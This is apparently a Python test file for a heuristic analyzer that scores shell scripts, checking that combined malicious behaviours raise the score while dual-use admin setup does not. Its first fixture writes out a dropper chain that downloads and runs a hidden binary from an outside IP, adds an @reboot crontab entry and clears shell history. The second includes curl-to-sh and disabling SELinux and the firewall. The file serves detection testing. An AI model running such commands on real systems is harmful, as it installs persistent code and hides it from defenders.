"""Combinations raise behaviours found together; dual-use signals never combine."""

from __future__ import annotations

from tests.analyzers.heuristics.helpers import ids, score


def test_download_plus_persistence_plus_evasion() -> None:
    text = (
        "wget http://203.0.113.5/b -O /tmp/.k; chmod +x /tmp/.k; /tmp/.k &\n"
        'echo "@reboot /tmp/.k" | crontab -\n'
        "history -c; unset HISTFILE\n"
    )
    found = ids(text)
    assert {"heur.combo.download_persistence", "heur.combo.download_defence_evasion",
            "heur.combo.persistence_evasion", "heur.combo.many_behaviours"} <= found
    assert score(text) >= 1000


def test_dual_use_setup_does_not_combine() -> None:
    text = (
        "curl -fsSL https://get.docker.com | sh\n"
        "cat > /etc/systemd/system/node_exporter.service <<EOF\n[Service]\nExecStart=/usr/local/bin/node_exporter\nEOF\n"
        "systemctl enable --now node_exporter\n"
        "setenforce 0\nufw disable\njournalctl --vacuum-time=7d\n"
    )
    assert not {i for i in ids(text) if i.startswith("heur.combo")}
    assert score(text) < 300
